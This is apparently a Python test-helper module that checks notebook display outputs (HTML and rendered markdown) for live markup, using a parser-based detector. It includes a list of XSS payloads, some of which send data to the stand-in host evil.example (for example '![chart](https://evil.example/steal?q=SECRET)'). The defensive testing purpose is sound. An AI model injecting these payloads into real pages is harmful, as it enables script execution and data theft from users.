"""What "no live markup" means on the page, checked without trusting the code under test.

``live_markup(html)`` parses HTML the way a browser builds elements and lists everything
that could run script, load something or send something away. ``markdown_renderings``
renders markdown with two permissive parsers (raw HTML passed through, every link
scheme allowed), as JupyterLab renders the ``text/markdown`` of a trusted output, so a
markdown output is checked by what it becomes. ``bundle_problems`` applies both to a
display bundle, MIME type by MIME type.
"""

from __future__ import annotations

import re
from collections.abc import Mapping
from html.parser import HTMLParser
from typing import Any
from urllib.parse import unquote

#: Classic XSS vectors and their markdown cousins: mixed case, entity-encoded, broken
#: tags, nested and mutation tricks, link and image syntax, autolinks, references.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    '<img src="x" onerror="alert(1)"/>',
    "<img src=x onerror=alert(1)//",
    "<img src=`x`onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "<embed src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    "<a href=vbscript:msgbox(1)>x</a>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><input name=q><button>go</button></form>',
    "<details open ontoggle=alert(1)>",
    '<div style="background:url(https://evil.example/?q=SECRET)">x</div>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<x onclick=alert(1)>broken",
    "<!-- <img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](<javascript:alert(1)>)",
    '[click](https://ok.example "a\\" onmouseover=\\"alert(1)")',
    "[click][evil]\n\n[evil]: javascript:alert(1)",
    "[click](//evil.example/)",
    "[click](../../../etc/passwd)",
    "\\[click](javascript:alert(1))",
    "\\![chart](https://evil.example/steal?q=SECRET)",
    "!<https://evil.example/?q=SECRET>",
    "[click](javascript&#58;alert(1))[up](../../secret.md)",
    "![chart](https://evil.example/steal?q=SECRET)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[![x](https://evil.example/p.png)](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<https://evil.example/?q=SECRET>",
    "`<img src=x onerror=alert(1)>`",
    "``a`</code><img src=x onerror=alert(1)>``",
    "```\n</code></pre><img src=x onerror=alert(1)>\n```",
    "    <img src=x onerror=alert(1)>",
    "- item\n\n      <script>alert(1)</script>\n",
    "> <iframe src=javascript:alert(1)>",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "$\\href{javascript:alert(1)}{x}$",
]

#: The tags this package writes into markdown outputs, and nothing else may start with "<".
OWN_MARKDOWN_TAG = re.compile(r'</?(?:code|pre|sub)(?: class="language-[A-Za-z0-9_+#.\-]+")?>')

_FORBIDDEN_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math",
    "style", "link", "meta", "base", "form", "input", "button", "textarea", "select",
    "img", "image", "picture", "source", "video", "audio", "track", "template", "noscript",
    "portal",
}
_URL_ATTRS = {"href", "src", "action", "formaction", "data", "srcset", "poster",
              "background", "xlink:href", "cite", "ping", "srcdoc", "lowsrc", "dynsrc"}
_LOAD_ATTRS = {"src", "srcset", "poster", "background", "lowsrc", "dynsrc", "srcdoc", "data"}
_BAD_SCHEMES = ("javascript:", "vbscript:", "data:", "file:")


def _leaves_folder(url: str) -> bool:
    """A scheme-less link to an absolute path, another host, or up out of the folder."""
    if re.match(r"^[a-z][a-z0-9+.\-]*:", url):
        return False
    path = unquote(unquote(re.split(r"[?#]", url, maxsplit=1)[0]))
    return path.startswith(("/", "\\")) or ".." in re.split(r"[/\\]", path)


class _Finder(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _FORBIDDEN_TAGS:
            self.found.append(f"<{tag}> element")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.found.append(f"{name}= on <{tag}>")
            squeezed = re.sub(r"[\x00-\x20]", "", value).lower()
            if name in _URL_ATTRS and squeezed.startswith(_BAD_SCHEMES):
                self.found.append(f"{name}={value!r} on <{tag}>")
            if name == "href" and _leaves_folder(squeezed):
                self.found.append(f"href={value!r} leaves the notebook's folder")
            if name in _LOAD_ATTRS:
                self.found.append(f"{name}= (loads a resource) on <{tag}>")
            if name == "style" and re.search(r"url\(|expression\(|@import|javascript:", squeezed):
                self.found.append(f"style={value!r} on <{tag}>")
            if tag == "meta" and name == "http-equiv":
                self.found.append("<meta http-equiv>")

    handle_startendtag = handle_starttag


def live_markup(html: str) -> list[str]:
    """Everything in ``html`` that could run script, load a resource or leave the page."""
    finder = _Finder()
    finder.feed(html)
    finder.close()
    return finder.found


def markdown_renderings(markdown: str) -> dict[str, str]:
    """``markdown`` as HTML by two parsers that trust it fully (raw HTML, any link)."""
    import mistune
    from markdown_it import MarkdownIt

    it = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    it.validateLink = lambda url: True  # type: ignore[method-assign]  # every scheme
    trusting = mistune.create_markdown(
        renderer=mistune.HTMLRenderer(escape=False, allow_harmful_protocols=True),
        plugins=["table", "strikethrough"])
    return {"markdown-it": it.render(markdown), "mistune": str(trusting(markdown))}


def markdown_problems(markdown: str) -> list[str]:
    """Live markup any renderer could make of ``markdown``, and any tag not our own."""
    problems = [f"{name}: {p}" for name, html in markdown_renderings(markdown).items()
                for p in live_markup(html)]
    stray = [m.group() for m in re.finditer(r"<[^\s]{0,40}", markdown)
             if not OWN_MARKDOWN_TAG.match(markdown, m.start())]
    return problems + [f"a '<' that is not one of our tags: {s!r}" for s in stray]


def bundle_problems(data: Mapping[str, Any], where: str) -> list[str]:
    """Live markup in a display bundle's ``text/html`` and ``text/markdown``.

    Those are the types a front end renders as markup; ``text/plain`` is shown as text,
    and our JSON records have renderers of their own (tested in the lab extension).
    """
    problems: list[str] = []
    if "text/html" in data:
        problems += [f"{where} text/html: {p}" for p in live_markup(str(data["text/html"]))]
    if "text/markdown" in data:
        problems += [f"{where} text/markdown: {p}"
                     for p in markdown_problems(str(data["text/markdown"]))]
    for mime in data:
        if mime in ("image/svg+xml", "application/javascript", "text/javascript"):
            problems.append(f"{where}: an output of type {mime}")
    return problems
